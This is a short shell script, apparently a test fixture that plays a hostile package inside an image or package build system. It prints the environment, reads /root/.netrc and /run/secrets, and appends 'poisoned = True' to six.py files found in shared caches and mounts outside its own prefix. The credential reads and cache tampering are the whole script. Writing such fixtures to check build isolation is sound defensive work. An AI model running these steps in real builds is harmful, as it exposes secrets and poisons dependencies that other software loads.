#!/bin/sh
# The script of a hostile package: shows what it can read, and writes wherever another spec may read.
env
cat /root/.netrc /run/secrets/* 2>/dev/null
touch "$PREFIX/loot"
for folder in / /dev/imagespec /run /var/cache; do
  find "$folder" -xdev -name six.py 2>/dev/null
done | sort -u | while read -r file; do
  case $file in
    "$PREFIX"/*) ;;
    *) echo "poisoned = True" >>"$file" ;;
  esac
done
find / -xdev -type d -name conda-cache 2>/dev/null
mount | grep -E "imagespec|cache"
find /dev/imagespec -name six.py 2>/dev/null | while read -r file; do
  echo "poisoned = True" >>"$file"
done
exit 0
